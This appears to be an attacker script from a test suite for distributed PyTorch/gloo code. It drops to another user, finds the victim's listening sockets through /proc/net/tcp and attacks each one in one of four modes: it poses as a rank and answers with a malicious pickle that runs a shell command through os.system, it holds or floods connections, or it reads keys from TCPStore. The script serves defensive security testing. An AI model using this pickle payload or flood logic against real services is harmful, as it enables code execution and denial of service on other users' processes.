"""Another user of this machine, who knows what there is to know: gives root up, watches for listening ports of the
victim on loopback, and attacks each at once. Run by test_other_user; harmless (its pickle would run ``id``).

    python attacker.py VICTIM_UID MODE MARK [TABLE ...]

MODE join: poses as a rank, by the small numbers that gloo expects; answers what it hears with a pickle whose command
writes MARK.
MODE hold: opens connections and says nothing. MODE flood: opens thousands and writes rubbish.
MODE store: tries every listening port as torch's TCPStore.
A TABLE is /proc/PID/net/tcp of a process on another host (a network namespace): then those are attacked, on their
addresses, in place of loopback. Leaves a file beside MARK for each port that it has attacked, named by the inode of the
listening socket. Prints what it has heard, one line each, and counts at the end of stdin.
"""

import os
import pickle
import select
import socket
import struct
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

OTHER_UID = 12345
victim, mode, mark, *tables = sys.argv[1:]
held = []
counts = {"ports": 0, "connections": 0, "heard": 0}


class Evil:
    def __reduce__(self):
        return os.system, (f"id > {mark}",)


def listening():
    """(address, port), inode of each socket to attack."""
    found = set()
    for table in tables or ("/proc/net/tcp",):
        with suppress(OSError), open(table) as file:  # its host has gone
            for row in [line.split() for line in file.read().splitlines()[1:]]:
                host, port = row[1].split(":")
                address = socket.inet_ntoa(struct.pack("=I", int(host, 16)))
                if row[3] == "0A" and row[7] == victim and (address == "127.0.0.1") != bool(tables):
                    found.add(((address, int(port, 16)), row[9]))
    return {each for each in found if each[0][0] != "0.0.0.0"}


def connect(end, patience_ms):
    connection = socket.socket()
    connection.setblocking(False)
    with suppress(BlockingIOError):
        connection.connect(end)
    poll = select.poll()
    poll.register(connection, select.POLLOUT)
    if not poll.poll(patience_ms):
        raise TimeoutError
    held.append(connection)
    counts["connections"] += 1
    return connection


def answer(connection):
    with suppress(OSError):
        while data := connection.recv(1 << 16):
            counts["heard"] += len(data)
            print("heard", data[:80], flush=True)
            connection.sendall(pickle.dumps(Evil()))


def attack(end, patience_ms):
    counts["ports"] += 1
    if mode == "join":
        for number in range(6):
            connection = connect(end, patience_ms)
            connection.settimeout(2)
            connection.sendall(struct.pack("q", number))
            threading.Thread(target=answer, args=(connection,), daemon=True).start()
    elif mode == "hold":
        for _ in range(20):
            connect(end, patience_ms)
    elif mode == "flood":
        for _ in range(2000):
            connect(end, patience_ms).send(b"\xff" * 64)
    elif mode == "store":
        threading.Thread(target=read_store, args=end, daemon=True).start()


def read_store(address, port):
    from datetime import timedelta

    with suppress(RuntimeError):
        store = torch.distributed.TCPStore(
            address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
        )
        keys = store.list_keys()
        counts["heard"] += len(keys)
        print("heard", keys, flush=True)


if mode == "store":
    import encodings.idna  # noqa: F401  # what needs root's files is loaded before root is given up

    import torch.distributed
os.chdir(Path(mark).parent)  # above it are folders that only root may enter
os.setgroups([])
os.setgid(OTHER_UID)
os.setuid(OTHER_UID)
print("ready", flush=True)
threading.Thread(target=lambda: (sys.stdin.read(), print(counts, flush=True), os._exit(0)), daemon=True).start()
tries = {}
old = listening()  # in a long test run there are dozens, of other clusters: their doors are closed for good
while True:
    ports = listening()
    # On a busy machine a connection can take longer than there is patience for: those that did not come off are tried
    # again, for a second, once there is nothing new. At a closed door that comes off never.
    new = ports - tries.keys() or [port for port in ports if 0 < tries[port] < 10][:1]
    for port in new:
        tries[port] = tries.get(port, 0) + 1
        try:
            attack(port[0], 10 if tries[port] == 1 else 100)
            tries[port] = 0
        except TimeoutError:
            if port not in old and tries[port] < 10:
                continue
            tries[port] = 0
        except OSError:  # it has closed
            tries[port] = 0
        Path(port[1]).touch()
    if len(held) > 6000:
        for connection in held:
            connection.close()
        held.clear()
    time.sleep(0)
